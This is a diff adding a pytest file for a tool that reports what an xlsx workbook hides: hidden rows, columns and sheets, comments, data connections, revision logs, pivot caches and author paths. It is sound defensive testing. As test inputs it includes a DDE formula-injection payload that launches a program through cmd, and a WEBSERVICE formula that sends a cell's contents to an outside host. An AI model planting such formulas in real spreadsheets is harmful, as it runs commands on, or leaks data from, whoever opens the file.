@@ -1,0 +1,197 @@
+"""An xlsx is read sheet by sheet, and what Excel does not show at once is reported."""
+
+from collections.abc import Callable
+
+import pytest
+from openpyxl import Workbook
+from openpyxl.comments import Comment
+
+from resources.inspection import sheets
+from tests.resources import files
+from tests.resources.reading import Reader, words_at
+
+SHEET = "xl/worksheets/sheet1.xml"
+Adapt = Callable[[Workbook], None]
+
+
+def hide_row(book: Workbook) -> None:
+    book.active.row_dimensions[2].hidden = True
+
+
+def hide_column(book: Workbook) -> None:
+    book.active.column_dimensions["B"].hidden = True
+
+
+def filter_rows(book: Workbook) -> None:
+    book.active.auto_filter.ref = "A1:B2"
+    book.active.auto_filter.add_filter_column(0, ["Nothing"])
+    book.active.row_dimensions[2].hidden = True
+
+
+def group_rows(book: Workbook) -> None:
+    book.active.row_dimensions.group(2, 2, hidden=True)
+
+
+def group_columns(book: Workbook) -> None:
+    book.active.column_dimensions.group("B", "C", hidden=True)
+
+
+def hide_sheet(book: Workbook) -> None:
+    book.create_sheet("Salaries").sheet_state = "hidden"
+
+
+def hide_sheet_deeply(book: Workbook) -> None:
+    book.create_sheet("Salaries").sheet_state = "veryHidden"
+
+
+def comment(book: Workbook) -> None:
+    book.active["A1"].comment = Comment("Ask J Smith", "Ann")
+
+
+def ask_program(book: Workbook) -> None:
+    book.active["C1"] = "=cmd|' /C calc'!A0"
+
+
+def ask_web(book: Workbook) -> None:
+    book.active["C1"] = '=_xlfn.WEBSERVICE("https://example.org/"&A1)'
+
+
+@pytest.mark.parametrize(
+    ("adapt", "kind"),
+    [
+        (hide_row, "hidden_row"),
+        (filter_rows, "hidden_row"),
+        (group_rows, "hidden_row"),
+        (hide_column, "hidden_column"),
+        (group_columns, "hidden_column"),
+        (hide_sheet, "hidden_sheet"),
+        (hide_sheet_deeply, "hidden_sheet"),
+        (comment, "comments"),
+        (ask_program, "external_link"),
+        (ask_web, "external_link"),
+    ],
+)
+def test_what_a_workbook_hides_is_reported(
+    reads: Reader, adapt: Adapt, kind: str
+) -> None:
+    assert reads.hidden("a.xlsx", files.book(adapt)) == {kind}
+
+
+@pytest.mark.parametrize(
+    ("before", "markup", "kind"),
+    [
+        ("</sheetData", '<row r="9" ht="0" customHeight="1"/>', "hidden_row"),
+        (
+            "<sheetData",
+            '<cols><col min="2" max="2" width="0"/></cols>',
+            "hidden_column",
+        ),
+    ],
+)
+def test_what_has_no_height_or_width_is_hidden(
+    reads: Reader, before: str, markup: str, kind: str
+) -> None:
+    made = files.changed(files.book(), {SHEET: files.put(before, markup)})
+    assert reads.hidden("a.xlsx", made) == {kind}
+
+
+def test_text_is_told_by_sheet(reads: Reader) -> None:
+    def adapt(book: Workbook) -> None:
+        book.create_sheet("People").append(["Ann", 7, None, True])
+
+    notes = reads("a.xlsx", files.book(adapt))
+    assert words_at(notes, "sheet Budget") == "Item\tCost\nLicences\t1200"
+    assert words_at(notes, "sheet People") == "Ann\t7\t1"
+    assert notes.pages == 2
+
+
+def test_hidden_parts_are_places_of_their_own(reads: Reader) -> None:
+    def adapt(book: Workbook) -> None:
+        hide_row(book)
+        hide_column(book)
+        book.create_sheet("Salaries").append(["Ann"])
+        book["Salaries"].sheet_state = "hidden"
+
+    notes = reads("a.xlsx", files.book(adapt))
+    assert words_at(notes, "sheet Budget") == "Item"
+    assert words_at(notes, "sheet Budget (hidden columns)") == "Cost"
+    assert words_at(notes, "sheet Budget (hidden rows)") == "Licences\t1200"
+    assert words_at(notes, "sheet Salaries (hidden)") == "Ann"
+
+
+def test_words_of_comments_and_their_authors_are_read(reads: Reader) -> None:
+    words = words_at(reads("a.xlsx", files.book(comment)), "comments")
+    assert "Ask J Smith" in words
+    assert "Ann" in words
+
+
+def test_threads_are_comments(reads: Reader) -> None:
+    kind = "application/vnd.ms-excel.threadedcomments+xml"
+    thread = b"<a><threadedComment><text>Ask J Smith</text></threadedComment></a>"
+    made = files.with_part(files.book(), "xl/threads/one.xml", thread, kind, {})
+    notes = reads("a.xlsx", made)
+    assert notes.hidden == {"comments"}
+    assert words_at(notes, "comments") == "Ask J Smith"
+
+
+def test_a_dde_link_is_reported_with_a_sentence(reads: Reader) -> None:
+    kind = (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
+    )
+    link = (
+        b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+    )
+    made = files.with_part(
+        files.book(), "xl/externalLinks/externalLink1.xml", link, kind, {}
+    )
+    notes = reads("a.xlsx", made)
+    assert notes.hidden == {"external_link"}
+    assert notes.sentences == [sheets.DDE]
+
+
+@pytest.mark.parametrize("part", ["connections", "queryTable"])
+def test_a_connection_is_reported(reads: Reader, part: str) -> None:
+    kind = f"application/vnd.openxmlformats-officedocument.spreadsheetml.{part}+xml"
+    made = files.with_part(files.book(), f"xl/{part}.xml", b"<a/>", kind, {})
+    assert reads.hidden("a.xlsx", made) == {"external_link"}
+
+
+def test_a_log_of_revisions_is_a_tracked_change(reads: Reader) -> None:
+    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+    made = files.with_part(
+        files.book(), "xl/revisions/log.xml", b"<a/>", f"{kind}.revisionLog+xml", {}
+    )
+    assert reads.hidden("a.xlsx", made) == {"tracked_changes"}
+
+
+def test_what_a_pivot_table_keeps_is_read(reads: Reader) -> None:
+    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
+    cache = b'<pivotCacheDefinition><s v="Ann Example"/></pivotCacheDefinition>'
+    made = files.with_part(
+        files.book(), "xl/cache.xml", cache, f"{kind}.pivotCacheDefinition+xml", {}
+    )
+    notes = reads("a.xlsx", made)
+    assert words_at(notes, "copies kept by pivot tables") == "Ann Example"
+
+
+def test_rows_hidden_by_default_are_reported(reads: Reader) -> None:
+    change = files.put("<sheetData", '<sheetFormatPr zeroHeight="1"/>')
+    made = files.changed(files.book(), {SHEET: change})
+    notes = reads("a.xlsx", made)
+    assert notes.hidden == {"hidden_row"}
+    assert "Licences" in words_at(notes, "sheet Budget (hidden rows)")
+
+
+def test_the_folder_of_somebody_is_their_name(reads: Reader) -> None:
+    path = '<absPath xmlns="urn:x" url="C:\\Users\\ann.example\\Documents\\"/>'
+    made = files.changed(files.book(), {"xl/workbook.xml": files.put("<sheets", path)})
+    assert reads.hidden("a.xlsx", made) == {"author"}
+
+
+def test_a_sheet_that_the_workbook_does_not_name_is_hidden(reads: Reader) -> None:
+    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+    sheet = b'<worksheet><row><c t="str"><v>left over</v></c></row></worksheet>'
+    made = files.with_part(files.book(), "xl/worksheets/old.xml", sheet, kind, {})
+    notes = reads("a.xlsx", made)
+    assert notes.hidden == {"hidden_sheet"}
+    assert words_at(notes, "sheet left over (hidden)") == "left over"
